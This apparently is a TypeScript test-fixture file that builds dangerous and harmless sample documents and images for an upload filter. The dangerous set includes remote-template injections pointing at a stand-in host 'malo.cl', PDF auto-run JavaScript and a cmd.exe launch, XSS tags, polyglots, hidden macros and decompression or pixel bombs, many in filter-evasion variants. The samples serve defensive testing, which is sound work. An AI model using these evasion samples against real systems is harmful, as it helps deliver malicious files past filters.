import { inflateRawSync } from 'node:zlib';
import { archive } from './archives.ts';
import { samples, zip } from './sample-files.ts';

type Stored = { name: string; content?: Buffer; child?: number };

/** A whole [MS-CFB] file: streams below 4,096 bytes in the root's own stream, others in sectors. */
export function compoundFile(stored: Stored[]): Buffer {
  const sectors: Buffer[] = [];
  const next: number[] = [];
  const put = (bytes: Buffer): number => {
    const first = sectors.length + 1;
    for (let at = 0; at < bytes.length; at += 512) {
      const sector = Buffer.alloc(512);
      bytes.copy(sector, 0, at, at + 512);
      sectors.push(sector);
      next.push(at + 512 < bytes.length ? sectors.length + 1 : 0xfffffffe);
    }
    return bytes.length > 0 ? first : 0xfffffffe;
  };
  const pieces: Buffer[] = [];
  const pieceAfter: number[] = [];
  const entries = stored.map(({ name, content = Buffer.alloc(0), child = -1 }) => {
    let start = 0xfffffffe;
    if (content.length >= 4_096) start = put(content);
    else if (content.length > 0) {
      start = pieces.length;
      for (let at = 0; at < content.length; at += 64) {
        const piece = Buffer.alloc(64);
        content.copy(piece, 0, at, at + 64);
        pieces.push(piece);
        pieceAfter.push(at + 64 < content.length ? pieces.length : 0xfffffffe);
      }
    }
    return entryOf(name, { start, size: content.length, child });
  });
  const small = Buffer.concat(pieces);
  const root = entryOf('Root Entry', { start: put(small), size: small.length, child: 1 });
  const pieceTable = put(numbers(pieceAfter));
  const directory = put(Buffer.concat([root, ...entries]));

  const header = Buffer.alloc(512, 0xff);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header);
  header.fill(0, 8, 24);
  header.writeUInt16LE(9, 30);
  header.writeUInt16LE(6, 32);
  header.writeUInt32LE(directory, 48);
  header.writeUInt32LE(4_096, 56);
  header.writeUInt32LE(pieceTable, 60);
  header.writeUInt32LE(0, 76);
  const table = Buffer.alloc(512, 0xff);
  numbers([0xfffffffd, ...next]).copy(table);
  return Buffer.concat([header, table, ...sectors]);
}

function entryOf(name: string, at: { start: number; size: number; child: number }): Buffer {
  const entry = Buffer.alloc(128);
  entry.write(name, 'utf16le');
  entry.writeUInt16LE((name.length + 1) * 2, 64);
  entry[66] = 2;
  entry.writeInt32LE(at.child, 76);
  entry.writeUInt32LE(at.start, 116);
  entry.writeUInt32LE(at.size, 120);
  return entry;
}

function numbers(list: number[]): Buffer {
  const bytes = Buffer.alloc(list.length * 4);
  list.forEach((number, n) => {
    bytes.writeUInt32LE(number, n * 4);
  });
  return bytes;
}

const record = (type: number, body: Buffer) => {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(body.length, 2);
  return Buffer.concat([head, body]);
};
const partStart = (type: number, kind = 0x809) => {
  const body = Buffer.alloc(16);
  body.writeUInt16LE(type, 2);
  return record(kind, body);
};
const partEnd = record(0x0a, Buffer.alloc(0));
/** A workbook whose one sheet is said to be of this type, `before` records of a kilobyte first. */
export function workbook(sheetType: number, before = 0, lock = false, part = 0x10): Buffer {
  const sheet = Buffer.from([0, 0, 0, 0, 0, sheetType, 5, 0, ...Buffer.from('Hoja1')]);
  const globals = [
    partStart(5),
    ...(lock ? [record(0x2f, Buffer.alloc(6))] : []),
    ...Array.from({ length: before }, () => record(0x31, Buffer.alloc(1_000))),
  ];
  const start = Buffer.concat([...globals, record(0x85, sheet), partEnd]).length;
  sheet.writeUInt32LE(start, 0);
  return Buffer.concat([
    ...globals,
    record(0x85, sheet),
    partEnd,
    partStart(part),
    partEnd,
    Buffer.alloc(64),
  ]);
}
const xls = (content: Buffer, name = 'Workbook') => ({
  bytes: compoundFile([{ name, content }]),
  name: 'a.xls',
});

/** What Word 97 keeps beside the text, the template among it ([MS-DOC] 2.9.273). */
function wordStrings(template: string): Buffer {
  const strings = ['', template, 'Contrato'].map((text) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(text.length);
    return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
  });
  return Buffer.concat([Buffer.from('ffff03000000', 'hex'), ...strings]);
}

/** A DOC as Word 97 writes it. `decoy`: the template of another table that comes first. */
function word(
  template: string,
  { version = 0xc1, flags = 0x200, table = '1Table', decoy = '' } = {},
) {
  const block = Buffer.alloc(5_000);
  block.writeUInt16LE(0xa5ec, 0);
  block.writeUInt16LE(version, 2);
  block.writeUInt16LE(flags, 10);
  block.writeUInt32LE(700, 0x19a);
  block.writeUInt32LE(wordStrings(template).length, 0x19e);
  const tableOf = (template: string) => ({
    name: table,
    content: Buffer.concat([Buffer.alloc(700), wordStrings(template), Buffer.alloc(80)]),
  });
  return {
    bytes: compoundFile([
      ...(decoy ? [tableOf(decoy)] : []),
      { name: 'WordDocument', content: block },
      tableOf(template),
    ]),
    name: 'a.doc',
  };
}

/** An XLS of sectors of 4,096 whose workbook is beyond 4 GB by one reader: there it has a macro sheet. */
const twoSizes = inflateRawSync(
  Buffer.from(
    '7ds5TgIBFIfxN2wCgoK7uOG+L7jv2phY21hrKYkkxMYDeBCPYO0VTPQI2nkJGf9MBoPYSGMifD/yhcyErX1vhpfn9O' +
      'v9Q+bNahxayEpuwiL+sVOVJ2UW8I9LrutWTrv4VwwAAAAA0BQ+NAOWqgrrXMSf6QEAAAAAQGM4s4IeN5a1E7vWc9Fu' +
      '69of9FjYqXyW88v3BP37B8rO9e1Fy9ul9zvyde8vOizg1Hs9O6Teg1X3MgAAAAAA0OBq9wGV6/8tKqpiKq5aVUIlVZ' +
      'tq90f4tDeDm3WqLtXt7QTMelWf6lcZNaAG1ZAaViMqq0bVmBpXE2pSTalpNaNm1ZyaVwtqUS2pZbWicmpVral1taE2' +
      '1ZbaVjtqV+2pfXVg5f82mB1xjwMAAAAAoIk0+/4jFk2ZRcL2mHwqrzy83cedJb29g1nYTgtXF7n41wtT314YZ38EAA' +
      'AAAGiA+df5Mf8eM/8CAAAAAAAAAAAAAAAAAAAAAPD3PgE=',
    'base64',
  ),
);

/** The directory says another length of this name. */
function named(name: string, length: number): { bytes: Buffer; name: string } {
  const bytes = doc(name);
  bytes.writeUInt16LE(length, bytes.indexOf(Buffer.from(name, 'utf16le')) + 64);
  return { bytes, name: 'a.doc' };
}

const rels = (...relations: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations.join('')}</Relationships>`;
const at = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
export const relation = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="rId1" Type="${at}/${type}" Target="${target}" TargetMode="${mode}"/>`;
export const docx = (more: Record<string, string>) =>
  zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more });
const xlsx = (more: Record<string, string>) =>
  zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', ...more });
export const docxRels = (...relations: string[]) =>
  docx({ 'word/_rels/settings.xml.rels': rels(...relations) });

/** A DOCX with a part that unpacks to so many zeros; `said`: what its index says of it. */
function largeDocx(bytes: number, said = bytes): Buffer {
  const content = Buffer.alloc(bytes);
  return archive([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<w:document/>' },
    { name: 'word/media/a.xml', content, deflated: true, unpacked: said },
  ]);
}

export function png(width: number, height: number): Buffer {
  const bytes = Buffer.from(samples.png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

/** A JPEG with `before` segments of 60 kB ahead of its frame header. */
export function jpg(width: number, height: number, before = 0): Buffer {
  const frame = Buffer.from('ffc0001108000000000301220002110103110100', 'hex');
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const segment = Buffer.alloc(60_002);
  segment.writeUInt32BE(0xffe10000 + 60_000);
  return Buffer.concat([
    samples.jpg.subarray(0, 20),
    ...Array.from({ length: before }, () => segment),
    frame,
    samples.jpg.subarray(20),
  ]);
}

function pngChunk(name: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length);
  head.write(name, 4, 'latin1');
  return Buffer.concat([head, body, Buffer.alloc(4)]);
}
const pngStart = samples.png.subarray(0, 8);
const size = (width: number, height: number) => png(width, height).subarray(8, 33);
const pixels = samples.png.subarray(33);

/** A frame header of a JPEG. */
function frame(marker: number, width: number, height: number): Buffer {
  const bytes = Buffer.from('ff00000b080000000001011100', 'hex');
  bytes[1] = marker;
  bytes.writeUInt16BE(height, 5);
  bytes.writeUInt16BE(width, 7);
  return bytes;
}
const scan = Buffer.from('ffda0008010100003f0012ff0034ffd056', 'hex');
const jpeg = (...parts: Buffer[]) => ({
  bytes: Buffer.concat([samples.jpg.subarray(0, 20), ...parts, samples.jpg.subarray(20)]),
  name: 'a.jpg',
});

export function webp(chunk: 'VP8 ' | 'VP8L' | 'VP8X', width: number, height: number): Buffer {
  const bytes = Buffer.alloc(64);
  bytes.write('RIFF\x38\0\0\0WEBP', 'latin1');
  bytes.write(chunk, 12, 'latin1');
  bytes.writeUInt32LE(44, 16);
  if (chunk === 'VP8X') {
    bytes.writeUIntLE(width - 1, 24, 3);
    bytes.writeUIntLE(height - 1, 27, 3);
  } else if (chunk === 'VP8L') {
    bytes[20] = 0x2f;
    bytes.writeUInt32LE((width - 1) | ((height - 1) << 14), 21);
  } else {
    Buffer.from('9d012a', 'hex').copy(bytes, 23);
    bytes.writeUInt16LE(width, 26);
    bytes.writeUInt16LE(height, 28);
  }
  return bytes;
}

/** An extended one that says 1 × 1, and frames that are larger, each after a chunk of notes. */
function framed(frame: 'VP8 ' | 'VP8L' | 'ANMF', width: number, height: number): Buffer {
  const inside = frame === 'ANMF' ? Buffer.alloc(52) : webp(frame, width, height).subarray(12);
  if (frame === 'ANMF') {
    inside.write('ANMF', 'latin1');
    inside.writeUInt32LE(44, 4);
    inside.writeUIntLE(width - 1, 14, 3);
    inside.writeUIntLE(height - 1, 17, 3);
    webp('VP8 ', 1, 1).copy(inside, 24, 12, 36);
    inside.writeUInt32LE(20, 28);
  }
  const extended = webp('VP8X', 1, 1).subarray(0, 30);
  extended.writeUInt32LE(10, 16);
  const bytes = Buffer.concat([extended, Buffer.from('EXIF\x03\0\0\0abc\0', 'latin1'), inside]);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
}

function inAnimation(width: number, height: number): Buffer {
  const bytes = framed('ANMF', 1, 1);
  webp('VP8 ', width, height).copy(bytes, bytes.length - 28, 12, 36);
  bytes.writeUInt32LE(20, bytes.length - 24);
  return bytes;
}

/** Its first frame ends in a chunk that says to go on behind the second. */
function hiddenFrame(): Buffer {
  const first = framed('ANMF', 1, 1);
  const second = framed('ANMF', 8_000, 7_000).subarray(42);
  const hider = Buffer.from('XXXX\xff\0\0\0', 'latin1');
  const bytes = Buffer.concat([first, hider, second]);
  bytes.writeUInt32LE(52, 46);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
}

const pdf = (start: string, more = '') =>
  Buffer.from(
    `${start}%PDF-1.7\n1 0 obj<</Type/Catalog${more}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );
const afterStart = (text: string) => ({
  bytes: Buffer.from(
    `%PDF-1.7\n${text}\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    'latin1',
  ),
  name: 'a.pdf',
});
/** So that its name begins at this byte. */
function actingAt(byte: number, name: string, after = 0): { bytes: Buffer; name: string } {
  const start = '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%';
  const text = `${start.padEnd(byte - 1, '.')}\n${name}/JS(1)>>endobj\n%${'.'.repeat(after)}\n%%EOF\n`;
  return { bytes: Buffer.from(text), name: 'a.pdf' };
}
const spelled = [...'JavaScript'].map((c) => `#${c.charCodeAt(0).toString(16)}`).join('');
const doc = (...names: string[]) =>
  compoundFile(['WordDocument', ...names].map((name) => ({ name })));

/** Files of kinds that are taken, which must never be handed out. */
export const dangerous: Record<string, { bytes: Buffer; name: string }> = {
  'a DOC with macros': { bytes: doc('Macros', 'VBA', '_VBA_PROJECT'), name: 'a.doc' },
  'an XLS with macros': {
    bytes: compoundFile([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR' }]),
    name: 'a.xls',
  },
  'a DOC with macros behind 300 other entries': {
    bytes: doc(...Array.from({ length: 300 }, (_, n) => `Objeto ${n}`), 'Macros'),
    name: 'a.doc',
  },
  'a DOC with an object': {
    bytes: compoundFile([{ name: 'WordDocument' }, { name: 'ObjectPool', child: 3 }]),
    name: 'a.doc',
  },
  'an XLS with an object': {
    bytes: compoundFile([{ name: 'Workbook' }, { name: 'MBD0012ab4F' }]),
    name: 'a.xls',
  },
  'an XLS with an Excel 4 macro sheet': {
    bytes: compoundFile([{ name: 'Workbook', content: workbook(1) }]),
    name: 'a.xls',
  },
  'an XLS with an Excel 4 macro sheet behind much else': {
    bytes: compoundFile([{ name: 'Workbook', content: workbook(1, 40) }]),
    name: 'a.xls',
  },
  'an old XLS with an Excel 4 macro sheet': {
    bytes: compoundFile([{ name: 'Book', content: workbook(1) }]),
    name: 'a.xls',
  },
  'a locked XLS': {
    bytes: compoundFile([{ name: 'Workbook', content: workbook(0, 0, true) }]),
    name: 'a.xls',
  },
  'an XLS whose workbook leads nowhere': {
    bytes: (() => {
      const bytes = compoundFile([{ name: 'Workbook', content: workbook(0, 40) }]);
      const name = bytes.indexOf(Buffer.from('Workbook', 'utf16le'));
      bytes.writeUInt32LE(60_000, name + 116);
      return bytes;
    })(),
    name: 'a.xls',
  },
  'a DOCX with macros': { bytes: docx({ 'word/vbaProject.bin': 'x' }), name: 'a.docx' },
  'a DOCX that is a DOCM': {
    bytes: zip({
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      'word/document.xml': '',
    }),
    name: 'a.docx',
  },
  'a DOCX whose macros have another name': {
    bytes: docx({
      'word/_rels/document.xml.rels': rels(
        '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="datos.dat"/>',
      ),
    }),
    name: 'a.docx',
  },
  'an XLSX with an Excel 4 macro sheet': {
    bytes: xlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
    name: 'a.xlsx',
  },
  'a DOCX with an OLE object': {
    bytes: docx({ 'word/embeddings/oleObject1.bin': 'x' }),
    name: 'a.docx',
  },
  'a DOCX with a program inside': {
    bytes: docx({ 'word/embeddings/factura.exe': 'MZ' }),
    name: 'a.docx',
  },
  'a DOCX with an ActiveX control': {
    bytes: docx({ 'word/activeX/activeX1.xml': '<ax/>' }),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere': {
    bytes: docxRels(relation('attachedTemplate', 'https://malo.cl/a.dotm')),
    name: 'a.docx',
  },
  'a DOCX with a template on a share': {
    bytes: docxRels(relation('attachedTemplate', 'file:///\\\\malo.cl\\a.dotm')),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere, in other letters': {
    bytes: docxRels(
      `<Relationship TargetMode = 'External' Id="a>b" Type='${at}/attached&#x54;emplate' Target='http://malo.cl/a'/>`,
    ),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere, in UTF-16': {
    bytes: (() => {
      const text = `\ufeff${rels(relation('attachedTemplate', 'https://malo.cl/a.dotm'))}`;
      const wide = Buffer.from(text, 'utf16le').toString('latin1');
      const whole = docx({ 'word/_rels/settings.xml.rels': 'x'.repeat(wide.length) });
      Buffer.from(wide, 'latin1').copy(whole, whole.indexOf('x'.repeat(wide.length)));
      return whole;
    })(),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere, its kind behind many zeros': {
    bytes: docxRels(relation('attached&#x00000054;emplate', 'https://malo.cl/a.dotm')),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere, its mode behind many zeros': {
    bytes: docxRels(relation('attachedTemplate', 'https://malo.cl/a', 'Exter&#0000000110;al')),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere, behind what looks like the end of a tag': {
    bytes: docxRels(
      `<Relationship Id="r" Type="${at}/attachedTemplate" Target="http://malo.cl/&#34;/&#62;" TargetMode="External"/>`,
    ),
    name: 'a.docx',
  },
  'a DOCX with a template elsewhere, under a prefix of other letters': {
    bytes: docx({
      'word/_rels/settings.xml.rels': `<ñ:Relationships xmlns:ñ="http://schemas.openxmlformats.org/package/2006/relationships"><ñ:Relationship Id="r" Type="${at}/attachedTemplate" Target="https://malo.cl/a" TargetMode="External"/></ñ:Relationships>`,
    }),
    name: 'a.docx',
  },
  'a DOCX whose macros have another name and many zeros': {
    bytes: zip({
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.ms-word.document.&#x0000006d;acroEnabled.main+xml"/></Types>',
      'word/document.xml': '',
    }),
    name: 'a.docx',
  },
  'a DOCX with a template that leaves the own disk': {
    bytes: docxRels(relation('attachedTemplate', 'file:///C:\\..\\..\\\\malo.cl\\a.dotm')),
    name: 'a.docx',
  },
  'a DOCX with a template of a server that looks like a disk': {
    bytes: docxRels(relation('attachedTemplate', 'file:///z://malo.cl/a.dotm')),
    name: 'a.docx',
  },
  'a DOCX with a linked object': {
    bytes: docxRels(relation('oleObject', 'https://malo.cl/a.rtf')),
    name: 'a.docx',
  },
  'a DOCX with a frame': {
    bytes: docxRels(relation('frame', 'https://malo.cl/a.html')),
    name: 'a.docx',
  },
  'a DOCX that really unpacks to 80 MB and says it does not': {
    bytes: largeDocx(80 * 1024 * 1024, 1_000),
    name: 'a.docx',
  },
  'a DOCX that unpacks to 80 MB': { bytes: largeDocx(80 * 1024 * 1024), name: 'a.docx' },
  'a PDF that is a page as well': {
    bytes: pdf('', '/X(<html><script>1</script>)'),
    name: 'a.pdf',
  },
  'a PDF behind a tag of music': {
    bytes: pdf(`ID3\x03\0\0\0\0\0\x40${'x'.repeat(64)}`),
    name: 'a.pdf',
  },
  'a PDF that is a page by another tag': {
    bytes: pdf('', '/X(<img src=x onerror=alert\\(1\\)>)'),
    name: 'a.pdf',
  },
  'a PDF that runs a script by another spelling': {
    bytes: pdf('', '/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>'),
    name: 'a.pdf',
  },
  'a PDF behind a byte-order mark': { bytes: pdf('\ufeff'), name: 'a.pdf' },
  'a PDF that starts a program': {
    bytes: pdf('', '/OpenAction<</S/Launch/F(cmd.exe)>>'),
    name: 'a.pdf',
  },
  'a PDF that runs a script': {
    bytes: pdf('', '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
    name: 'a.pdf',
  },
  ...Object.fromEntries(
    [
      '<a href=javascript:alert(1)>',
      '<p onmouseover=alert(1)>',
      '<x onfocus=alert(1) autofocus tabindex=1>',
      '<textarea autofocus onfocus=alert(1)>',
      '<SELECT autofocus>',
      '<frame src=x>',
      '<h1 onclick=alert(1)>',
      '<dialog open>',
      '<applet code=x>',
      '<plaintext>',
      '<script\0>',
      '<!--',
      '<?xml version="1.0"?>',
    ].map((tag) => [`a PDF that begins with ${tag.replace('\0', 'NUL')}`, afterStart(tag)]),
  ),
  'a PDF that is a page behind its first object': afterStart(
    '1 0 obj<</X 1>>endobj\n<x/onfocus=alert(1) autofocus tabindex=1>',
  ),
  'a PDF with a script across the end of its first 128 KB': actingAt(131_068, '/JavaScript'),
  'a PDF with a spelled script across the same, and more behind': actingAt(
    131_060,
    `/${spelled}`,
    400_000,
  ),
  'a PDF with a form of scripts': { bytes: pdf('', '/AcroForm<</XFA 2 0 R>>'), name: 'a.pdf' },
  'a PDF with a form of scripts in parts': {
    bytes: pdf('', '/AcroForm<</X#46A[(template)2 0 R]>>'),
    name: 'a.pdf',
  },
  'a PDF with a script in a rendition': {
    bytes: pdf('', '/OpenAction<</S/Rendition/JS(app.alert\\(1\\))>>'),
    name: 'a.pdf',
  },
  'a PDF with an archive behind it': {
    bytes: Buffer.concat([samples.pdf, docx({ 'word/vbaProject.bin': 'x' })]),
    name: 'a.pdf',
  },
  'a PNG with an archive behind it': {
    bytes: Buffer.concat([samples.png, docx({ 'word/vbaProject.bin': 'x' })]),
    name: 'a.png',
  },
  'a DOC with a template elsewhere': word('https://malo.cl/a.dotm'),
  'a DOC with a template on a share': word('\\\\malo.cl\\a.dot', { flags: 0, table: '0Table' }),
  'a DOC with a template elsewhere, by one bar': word(' http:/malo.cl/a.dotm'),
  'an XLS of two sizes': { bytes: twoSizes, name: 'a.xls' },
  'a DOC with two tables of strings': word('https://malo.cl/a.dotm', {
    decoy: 'Normal.dot',
  }),
  'a DOC whose strings are missing': word('Normal.dot', { table: '0Table' }),
  'a DOC of Word 95': word('Normal.dot', { version: 0x68 }),
  'a DOC with a password': word('Normal.dot', { flags: 0x300 }),
  'a DOC whose text is none': {
    bytes: compoundFile([{ name: 'WordDocument', content: Buffer.alloc(5_000) }]),
    name: 'a.doc',
  },
  'a DOC with macros under a name with a NUL': { bytes: doc('Macros\0'), name: 'a.doc' },
  'a DOC with macros under a name in other letters': { bytes: doc('macro\u017f'), name: 'a.doc' },
  ...Object.fromEntries(
    [0, 2, 12, 13, 15, 16, 64, 66].map((length) => [
      `a DOC with macros under a name that says ${length} bytes`,
      named('Macros', length),
    ]),
  ),
  'an XLS that keeps small streams elsewhere': {
    bytes: (() => {
      const bytes = compoundFile([{ name: 'Workbook', content: workbook(0) }]);
      bytes.writeUInt32LE(64, 56);
      return bytes;
    })(),
    name: 'a.xls',
  },
  'an XLS with controls': {
    bytes: compoundFile([{ name: 'Workbook', content: workbook(0) }, { name: 'Ctls' }]),
    name: 'a.xls',
  },
  'an XLS whose sheet starts as a macro sheet': xls(workbook(0, 0, false, 0x40)),
  'a long XLS whose sheet starts as a macro sheet': xls(workbook(0, 40, false, 0x40)),
  'an XLS whose sheet starts as a module': xls(workbook(0, 0, false, 6)),
  'an old XLS that starts as a macro sheet': xls(
    Buffer.concat([partStart(0x40, 0x209), partEnd, Buffer.alloc(64)]),
    'Book',
  ),
  'an XLS whose sheet is elsewhere': xls(
    (() => {
      const bytes = workbook(0);
      bytes.writeUInt32LE(3, 24);
      return bytes;
    })(),
  ),
  'a PNG whose size comes second': {
    bytes: Buffer.concat([
      pngStart,
      pngChunk('CgBI', Buffer.alloc(4)),
      size(60_000, 60_000),
      pixels,
    ]),
    name: 'a.png',
  },
  'a PNG of two sizes': {
    bytes: Buffer.concat([pngStart, size(1, 1), size(60_000, 60_000), pixels]),
    name: 'a.png',
  },
  'a JPEG whose height comes later': jpeg(
    frame(0xc0, 60_000, 0),
    scan,
    Buffer.from('ffdc0004ea60', 'hex'),
  ),
  'a JPEG of two frames': jpeg(frame(0xc0, 1, 1), frame(0xc0, 60_000, 60_000), scan),
  'a JPEG with a frame behind a scan': jpeg(
    frame(0xc0, 1, 1),
    scan,
    frame(0xc2, 60_000, 60_000),
    scan,
  ),
  'a JPEG with a scan before its frame': jpeg(scan, frame(0xc0, 60_000, 60_000), scan),
  'a JPEG in a hierarchy': jpeg(frame(0xde, 60_000, 60_000), frame(0xc5, 1, 1), scan),
  'a PNG of 56 megapixels': { bytes: png(8_000, 7_000), name: 'a.png' },
  'a JPEG of 56 megapixels': { bytes: jpg(8_000, 7_000), name: 'a.jpg' },
  'a JPEG of 56 megapixels behind 2 MB of notes': { bytes: jpg(8_000, 7_000, 35), name: 'a.jpg' },
  'a WEBP of 56 megapixels': { bytes: webp('VP8 ', 8_000, 7_000), name: 'a.webp' },
  'a lossless WEBP of 56 megapixels': { bytes: webp('VP8L', 8_000, 7_000), name: 'a.webp' },
  'a WEBP of 1 pixel around a frame of 56': { bytes: framed('VP8 ', 8_000, 7_000), name: 'a.webp' },
  'a WEBP of 1 pixel around a lossless one': {
    bytes: framed('VP8L', 8_000, 7_000),
    name: 'a.webp',
  },
  'an animation whose frame says 56': { bytes: framed('ANMF', 8_000, 7_000), name: 'a.webp' },
  'an animation that hides its second frame': { bytes: hiddenFrame(), name: 'a.webp' },
  'an animation whose frame holds 56': { bytes: inAnimation(8_000, 7_000), name: 'a.webp' },
  'an extended WEBP of 56 megapixels': { bytes: webp('VP8X', 8_000, 7_000), name: 'a.webp' },
};

/** Their harmless neighbours. */
export const harmless: Record<string, { bytes: Buffer; name: string }> = {
  'a DOC with an empty pool of objects': {
    bytes: compoundFile([{ name: 'WordDocument' }, { name: 'ObjectPool' }]),
    name: 'a.doc',
  },
  'an XLS with sheets': {
    bytes: compoundFile([{ name: 'Workbook', content: workbook(0) }]),
    name: 'a.xls',
  },
  'a long XLS with sheets': {
    bytes: compoundFile([{ name: 'Workbook', content: workbook(0, 40) }]),
    name: 'a.xls',
  },
  'a DOCX with links, a chart and the template of the company': {
    bytes: docx({
      'word/_rels/document.xml.rels': rels(
        relation('hyperlink', 'https://www.mercadopublico.cl/?a=1&amp;b=2'),
        relation('attachedTemplate', 'file:///C:\\Users\\ana\\Plantilla.dotx'),
        relation('package', 'embeddings/Hoja1.xlsx', 'Internal'),
      ),
    }),
    name: 'a.docx',
  },
  'an XLSX with settings of a printer': {
    bytes: xlsx({ 'xl/printerSettings/printerSettings1.bin': 'x' }),
    name: 'a.xlsx',
  },
  'a DOCX that unpacks to 60 MB': { bytes: largeDocx(60 * 1024 * 1024), name: 'a.docx' },
  'a DOC with a template of its own': word('Normal.dot'),
  'a DOC with a template on the own disk': word('C:\\Users\\ana\\Plantillas\\Carta.dot'),
  'a DOC with a template on a Mac': word('Macintosh HD:Users:ana:Carta.dot'),
  'a PDF made for the web': afterStart(
    '%\xe2\xe3\xcf\xd3\n7 0 obj<</Linearized 1/L 7945/ID[<ab12e0><AB12E0>]>>endobj',
  ),
  'a PDF that begins with its description': afterStart(
    '2 0 obj<</Type/Metadata/Length 9>>stream\n<?xpacket begin="\xef\xbb\xbf"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>\nendstream endobj',
  ),
  'a PDF whose packed bytes look like a tag': afterStart(
    '4 0 obj<</Length 9/Filter/FlateDecode>>stream\nx\x01<p \x02<a\x0c/XFAb<h1>\nendstream endobj',
  ),
  'a PNG with notes behind it': {
    bytes: Buffer.concat([samples.png, Buffer.alloc(200_000), size(60_000, 60_000)]),
    name: 'a.png',
  },
  'a JPEG with a film behind it': {
    bytes: Buffer.concat([
      jpeg(frame(0xc0, 4_000, 3_000), scan, scan).bytes,
      Buffer.from('0000001866747970', 'hex'),
      frame(0xc0, 60_000, 60_000),
    ]),
    name: 'a.jpg',
  },
  'a PDF that speaks of JavaScripting': { bytes: pdf('', '/T(/JavaScripting)'), name: 'a.pdf' },
  'a JPEG of 48 megapixels': { bytes: jpg(8_000, 6_000, 2), name: 'a.jpeg' },
  'a PNG of 48 megapixels': { bytes: png(8_000, 6_000), name: 'a.png' },
  'a WEBP with a frame of 48': { bytes: framed('VP8L', 8_000, 6_000), name: 'a.webp' },
  'an animation with a frame of 48': { bytes: framed('ANMF', 8_000, 6_000), name: 'a.webp' },
  'a WEBP of 48 megapixels': { bytes: webp('VP8X', 8_000, 6_000), name: 'a.webp' },
};
